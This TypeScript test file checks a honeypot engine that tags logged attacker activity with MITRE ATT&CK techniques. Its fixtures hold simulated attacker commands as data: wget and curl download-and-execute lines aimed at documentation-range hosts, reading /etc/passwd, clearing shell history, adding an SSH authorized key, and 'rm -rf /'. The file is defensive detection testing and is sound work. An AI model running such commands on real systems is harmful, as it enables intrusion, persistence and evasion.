// The engine over the shipped rules: the end-to-end SSH session, deterministic tag ids,
// bounded and secret-free state and evidence, counting rules, and clear errors on bad events.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { ROOT } from '../helpers/env.ts';
import { loadTtpEngine } from '../../src/intel/ttp/load-engine.ts';
import { createMatcher } from '../../src/intel/ttp/matcher.ts';
import { AGG_RING, AUTH_RING, createAttackerState, reviveAttackerState } from '../../src/intel/ttp/attacker-state.ts';
import { TtpEventError } from '../../src/intel/ttp/event-view.ts';
import { toTtpEvent } from '../../src/intel/ttp/to-event.ts';
import { parseCommandLine } from '../../src/intel/ttp/shell-words.ts';
import type { TtpEvent, TtpTag } from '../../src/intel/ttp/types.ts';

const { engine } = await loadTtpEngine({ rulesDir: join(ROOT, 'rules/ttp'), cataloguePath: join(ROOT, 'data/attack/enterprise-18.1.json') });

const PASSWORDS = ['123456', 'password', 'admin'];
const COMMAND_LINE = 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh; history -c';

/** The acceptance scenario: two failed logins, a login with the weak password, one command line. */
function sshSession(ip: string, startMs: number, splitCommands = false): TtpEvent[] {
  let t = startMs;
  const base = { decky: 'decky-01', service: 'ssh', attacker_ip: ip };
  const events: TtpEvent[] = [
    { ...base, ts: new Date(t++).toISOString(), event: 'connect', fields: { src_port: '51514', dst_port: '22' } },
    { ...base, ts: new Date(t++).toISOString(), event: 'client_hello', fields: { client_version: 'SSH-2.0-OpenSSH_9.6p1', hassh: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1' } },
  ];
  PASSWORDS.forEach((pw, n) =>
    events.push({
      ...base,
      ts: new Date(t++).toISOString(),
      event: 'auth_attempt',
      fields: { username: 'root', auth_method: 'password', success: String(n === 2), secret_b64: Buffer.from(pw).toString('base64') },
    }),
  );
  const lines = splitCommands ? COMMAND_LINE.split('; ') : [COMMAND_LINE];
  for (const command of lines) events.push({ ...base, ts: new Date(t++).toISOString(), event: 'command', fields: { command, cwd: '/root', user: 'root' } });
  events.push({ ...base, ts: new Date(t++).toISOString(), event: 'download', fields: { url: 'http://198.51.100.7/x.sh', tool: 'wget' } });
  return events;
}

function runAll(events: readonly TtpEvent[]): TtpTag[] {
  const matcher = createMatcher(engine);
  return events.flatMap((e) => matcher.match(e));
}

const byTechnique = (tags: TtpTag[], id: string): TtpTag[] => tags.filter((t) => t.technique_id === id);

for (const split of [false, true]) {
  test(`the SSH acceptance session is tagged with evidence (${split ? 'one event per command' : 'one command line'})`, () => {
    const tags = runAll(sshSession('203.0.113.50', Date.parse('2026-05-01T12:00:00Z'), split));
    const expect: Record<string, RegExp> = {
      T1110: /after 2 failed attempts/,
      T1078: /after 2 failed attempts/,
      T1082: /^uname -a$/,
      T1105: /wget http:\/\/198\.51\.100\.7\/x\.sh/,
      'T1070.003': /^history -c$/,
    };
    for (const [technique, evidence] of Object.entries(expect)) {
      const found = byTechnique(tags, technique);
      assert.equal(found.length, 1, `${technique}: ${found.length} tags`);
      const tag = found[0]!;
      assert.match(tag.evidence.matched ?? tag.evidence.text, evidence);
      assert.equal(tag.attacker_ip, '203.0.113.50');
      assert.equal(tag.decky, 'decky-01');
      assert.equal(tag.service, 'ssh');
      assert.equal(tag.attack_version, '18.1');
      assert.match(tag.id, /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      assert.ok(Date.parse(tag.evidence.ts) >= Date.parse('2026-05-01T12:00:00Z'));
    }
    const clear = byTechnique(tags, 'T1070.003')[0]!;
    assert.equal(clear.parent_technique, 'T1070');
    assert.deepEqual(clear.tactics, ['defense-evasion']);
    assert.equal(clear.technique_name, 'Clear Command History');
    assert.equal(clear.evidence.fields.cwd, '/root');
    // Also seen: account discovery, chmod, script execution, the weak default account.
    for (const t of ['T1087.001', 'T1222.002', 'T1059.004', 'T1078.001']) assert.equal(byTechnique(tags, t).length, 1, t);
  });
}

test('replaying the same events yields the same tag ids; another attacker gets other ids', () => {
  const start = Date.parse('2026-05-01T12:00:00Z');
  const first = runAll(sshSession('203.0.113.50', start));
  const again = runAll(sshSession('203.0.113.50', start));
  assert.deepEqual(again.map((t) => t.id), first.map((t) => t.id));
  assert.deepEqual(again, first);
  assert.equal(new Set(first.map((t) => t.id)).size, first.length, 'ids are unique within a run');

  const other = runAll(sshSession('203.0.113.51', start));
  assert.equal(other.length, first.length);
  const overlap = other.filter((t) => first.some((f) => f.id === t.id));
  assert.deepEqual(overlap, []);

  // A store keyed by tag id (insert-or-ignore) gains nothing from a replay.
  const store = new Map(first.map((t) => [t.id, t]));
  let inserted = 0;
  for (const t of again) if (!store.has(t.id)) (store.set(t.id, t), inserted++);
  assert.equal(inserted, 0);
});

test('the same command run again later is a new observation with a new id', () => {
  const ev = (ts: string): TtpEvent => ({ ts, decky: 'd1', service: 'ssh', event: 'command', attacker_ip: '192.0.2.9', fields: { command: 'uname -a' } });
  const a = engine.evaluate(ev('2026-05-01T12:00:00Z')).tags;
  const b = engine.evaluate(ev('2026-05-01T12:05:00Z')).tags;
  assert.equal(a.length, 1);
  assert.notEqual(a[0]!.id, b[0]!.id);
  // Epoch milliseconds and ISO text of the same instant are the same event.
  const c = engine.evaluate({ ...ev('x'), ts: Date.parse('2026-05-01T12:00:00Z') }).tags;
  assert.equal(c[0]!.id, a[0]!.id);
});

test('counting rules fire once per attacker and day, with the count as evidence', () => {
  const state = createAttackerState('198.51.100.99');
  const fired: TtpTag[] = [];
  let t = Date.parse('2026-05-01T09:00:00Z');
  for (let i = 0; i < 40; i++) {
    const ev: TtpEvent = { ts: t, decky: 'd1', service: 'ssh', event: 'auth_attempt', attacker_ip: '198.51.100.99', fields: { username: 'root', success: 'false', secret_b64: Buffer.from(`pw${i}`).toString('base64') } };
    fired.push(...engine.evaluate(ev, state).tags);
    t += 5_000;
  }
  const brute = fired.filter((x) => x.rule_id === 'auth-brute-force');
  assert.equal(brute.length, 1);
  assert.deepEqual(brute[0]!.evidence.aggregate, { count: 5, window_s: 300, first_ts: '2026-05-01T09:00:00.000Z' });
  assert.equal(brute[0]!.evidence.key, 'a|2026-05-01');
  assert.equal(fired.filter((x) => x.rule_id === 'auth-password-guessing').length, 1);
  // The next day is a new observation.
  const nextDay: TtpEvent[] = Array.from({ length: 5 }, (_, i) => ({
    ts: Date.parse('2026-05-02T09:00:00Z') + i * 1000, decky: 'd1', service: 'ssh', event: 'auth_attempt', attacker_ip: '198.51.100.99', fields: { username: 'admin', success: 'false' },
  }));
  const later = nextDay.flatMap((e) => engine.evaluate(e, state).tags).filter((x) => x.rule_id === 'auth-brute-force');
  assert.equal(later.length, 1);
  assert.notEqual(later[0]!.id, brute[0]!.id);
});

test('a counting window that spans midnight fires for the new day', () => {
  const ip = '198.51.100.98';
  const state = createAttackerState(ip);
  const fail = (iso: string): TtpTag[] =>
    engine.evaluate({ ts: iso, decky: 'd1', service: 'ftp', event: 'auth_attempt', attacker_ip: ip, fields: { username: 'ftp', success: 'false' } }, state).tags.filter((t) => t.rule_id === 'auth-brute-force');
  for (let i = 0; i < 5; i++) fail(`2026-05-01T10:00:0${i}Z`);
  // Already fired on May 1st; these still count for the window that reaches into May 2nd.
  const late = ['2026-05-01T23:58:30Z', '2026-05-01T23:59:00Z', '2026-05-01T23:59:30Z', '2026-05-01T23:59:50Z'].flatMap(fail);
  assert.deepEqual(late, []);
  const [tag, ...rest] = fail('2026-05-02T00:00:10Z');
  assert.deepEqual(rest, []);
  assert.deepEqual(tag!.evidence.aggregate, { count: 5, window_s: 300, first_ts: '2026-05-01T23:58:30.000Z' });
  assert.equal(tag!.evidence.key, 'a|2026-05-02');
});

test('key offers, handshake legs and sudo prompts are not failed logins', () => {
  const ip = '198.51.100.97';
  const state = createAttackerState(ip);
  const ev = (fields: Record<string, string>, service = 'ssh'): TtpEvent => ({ ts: Date.parse('2026-05-01T10:00:00Z') + state.auth.length * 1000 + Object.keys(fields).length, decky: 'd1', service, event: 'auth_attempt', attacker_ip: ip, fields });
  const tags: TtpTag[] = [];
  for (let i = 0; i < 6; i++) {
    tags.push(...engine.evaluate(ev({ username: 'root', auth_method: 'publickey', signed: 'false', success: 'false' }), state).tags);
    tags.push(...engine.evaluate(ev({ auth_method: 'ntlm', stage: 'negotiate', success: 'false' }, 'smb'), state).tags);
    tags.push(...engine.evaluate(ev({ username: 'root', auth_method: 'sudo', success: 'false' }), state).tags);
  }
  assert.deepEqual(state.auth, []);
  // An ordinary client: key offers, then the (weak) password works. No brute force, no guessing.
  tags.push(...engine.evaluate(ev({ username: 'root', auth_method: 'password', success: 'true', secret_b64: 'YWRtaW4=' }), state).tags);
  assert.deepEqual(tags.map((t) => t.technique_id).sort(), ['T1021.004', 'T1078.001']);
});

test('without a state object, counting rules stay silent and stateless rules still work', () => {
  const ev: TtpEvent = { ts: 1, decky: 'd1', service: 'ssh', event: 'auth_attempt', attacker_ip: '192.0.2.1', fields: { username: 'root', success: 'true' } };
  const { tags, stateChanged } = engine.evaluate(ev);
  assert.equal(stateChanged, false);
  assert.deepEqual(tags.map((t) => t.technique_id).sort(), ['T1021.004', 'T1078.001']);
});

test('attacker state is bounded, JSON, free of secrets and survives a round trip', () => {
  const ip = '198.51.100.77';
  const state = createAttackerState(ip);
  const secret = 'Sup3r-Secret-Passw0rd';
  let t = Date.parse('2026-05-01T00:00:00Z');
  for (let i = 0; i < 5000; i++) {
    const fields: Record<string, string> = { username: `user${i}`, success: 'false', secret_b64: Buffer.from(`${secret}${i}`).toString('base64'), dst_port: String(1 + (i % 900)) };
    engine.evaluate({ ts: t, decky: `d${i % 7}`, service: 'ssh', event: 'auth_attempt', attacker_ip: ip, fields }, state);
    engine.evaluate({ ts: t, decky: `d${i % 7}`, service: 'http', event: 'request', attacker_ip: ip, fields: { method: 'GET', path: `/p${i}` } }, state);
    t += 700;
  }
  assert.ok(state.auth.length <= AUTH_RING);
  for (const mem of Object.values(state.agg)) assert.ok(mem.e.length <= AGG_RING);
  const json = JSON.stringify(state);
  assert.ok(json.length < 64 * 1024, `state is ${json.length} bytes`);
  assert.ok(!json.includes(secret) && !json.includes(Buffer.from(secret).toString('base64').slice(0, 16)) && !json.includes('user4999'), 'state holds hashes, not attacker text');

  const revived = reviveAttackerState(ip, JSON.parse(json));
  assert.equal(JSON.stringify(revived), json);
  const empty = JSON.stringify(createAttackerState(ip));
  assert.equal(JSON.stringify(reviveAttackerState(ip, { v: 99 })), empty);
  assert.equal(JSON.stringify(reviveAttackerState(ip, JSON.parse(json.replace(ip, '10.9.9.9')))), empty, 'a state of another attacker is not reused');
  // A revived state keeps counting where the stored one stopped: the same event gives the same result.
  const probe: TtpEvent = { ts: t, decky: 'd1', service: 'http', event: 'request', attacker_ip: ip, fields: { method: 'GET', path: '/probe' } };
  assert.deepEqual(engine.evaluate(probe, revived), engine.evaluate(probe, state));
  assert.throws(() => engine.evaluate({ ts: 1, decky: 'd', service: 'ssh', event: 'connect', attacker_ip: '10.0.0.1', fields: {} }, state), /belongs to 198\.51\.100\.77/);
});

test('evidence never carries secrets and is bounded', () => {
  const long = 'A'.repeat(20_000);
  const tags = engine.evaluate({
    ts: '2026-05-01T12:00:00Z', decky: 'd1', service: 'ssh', event: 'command', attacker_ip: '192.0.2.5',
    fields: { command: `wget http://203.0.113.9/${long}`, secret_b64: 'c2VjcmV0', password: 'hunter2', token: 't0k', cwd: long },
  }).tags;
  assert.equal(tags.length, 1);
  const e = tags[0]!.evidence;
  assert.ok(e.text.length <= 512 && (e.matched ?? '').length <= 256);
  assert.deepEqual(Object.keys(e.fields), ['cwd']);
  assert.ok(e.fields.cwd!.length <= 256);
  assert.ok(!JSON.stringify(tags).includes('hunter2') && !JSON.stringify(tags).includes('c2VjcmV0'));
});

test('one tag per technique and event: the most confident rule speaks', () => {
  // Both the inline-shell and the script-execution rules map to T1059.004.
  const tags = engine.evaluate({ ts: 5, decky: 'd1', service: 'ssh', event: 'command', attacker_ip: '192.0.2.5', fields: { command: 'curl -s http://203.0.113.9/i.sh | sh; ./i.sh' } }).tags;
  assert.equal(tags.filter((t) => t.technique_id === 'T1059.004').length, 1);
  assert.deepEqual(tags.map((t) => t.technique_id).sort(), ['T1059.004', 'T1105']);
});

test('shell rules apply to shell services only', () => {
  // Redis, FTP and Docker also log `command` events; a shell rule must not read them as shell lines.
  const redis = engine.evaluate({ ts: 5, decky: 'd1', service: 'redis', event: 'command', attacker_ip: '192.0.2.5', fields: { command: 'uname', args: '["-a"]' } }).tags;
  assert.deepEqual(redis, []);
});

test('bad events are refused with a clear error', () => {
  const good: TtpEvent = { ts: 1, decky: 'd', service: 'ssh', event: 'connect', attacker_ip: '192.0.2.1', fields: {} };
  assert.throws(() => engine.evaluate({ ...good, ts: 'yesterday' }), (e: unknown) => e instanceof TtpEventError && /not an ISO-8601 time/.test(e.message));
  assert.throws(() => engine.evaluate({ ...good, ts: 1e20 }), /not an ISO-8601 time or epoch milliseconds/);
  assert.throws(() => engine.evaluate({ ...good, fields: undefined as unknown as Record<string, string> }), /event\.fields must be an object/);
  assert.throws(() => engine.evaluate({ ...good, service: 7 as unknown as string }), /event\.service must be a string/);
});

test('stored records are turned into engine events', () => {
  const ev = toTtpEvent({
    ts: '2026-05-01T12:00:00.123456+00:00', decky: 'd1', service: 'ssh', event: 'command', src_ip: '192.0.2.8', src_port: 40000, dst_ip: '10.0.0.2', dst_port: 22,
    fields: { command: 'id', success: true, n: 3, gone: null }, secret: Buffer.from('pw'),
  });
  assert.deepEqual(ev, {
    ts: '2026-05-01T12:00:00.123456+00:00', decky: 'd1', service: 'ssh', event: 'command', attacker_ip: '192.0.2.8', command: 'id',
    fields: { command: 'id', success: 'true', n: '3', src_port: '40000', dst_ip: '10.0.0.2', dst_port: '22', secret_b64: 'cHc=' },
  });
  assert.equal(engine.evaluate(ev).tags[0]?.technique_id, 'T1033');
});

test('command lines are split into the programs they run', () => {
  const calls = (line: string): string[][] => parseCommandLine(line).map((s) => s.calls.map((c) => c.name));
  assert.deepEqual(calls('uname -a; cat /etc/passwd && wget -q http://x/y || true'), [['uname'], ['cat'], ['wget'], ['true']]);
  assert.deepEqual(calls('sudo -u root nohup busybox wget http://x/y | sh'), [['sudo', 'nohup', 'busybox', 'wget'], ['sh']]);
  assert.deepEqual(calls(`bash -c "cd /tmp; curl -O http://x/k"`), [['bash'], ['cd'], ['curl']]);
  assert.deepEqual(calls('FOO=1 env A=b timeout 5 ping -c1 x & echo $(id) `whoami`'), [['env', 'timeout', 'ping'], ['echo'], ['id'], ['whoami']]);
  assert.deepEqual(calls("echo 'a; wget x' # ; rm -rf /"), [['echo']]);
  assert.deepEqual(calls('command -v wget'), [['command']]);
  const [echo] = parseCommandLine('echo key >>/root/.ssh/authorized_keys 2>/dev/null');
  assert.equal(echo!.calls[0]!.args, 'key >> /root/.ssh/authorized_keys 2> /dev/null');
  // Bounded: a huge line is cut, and the number of simple commands is capped.
  const parts = parseCommandLine('id;'.repeat(50_000));
  assert.ok(parts.length <= 64);
});
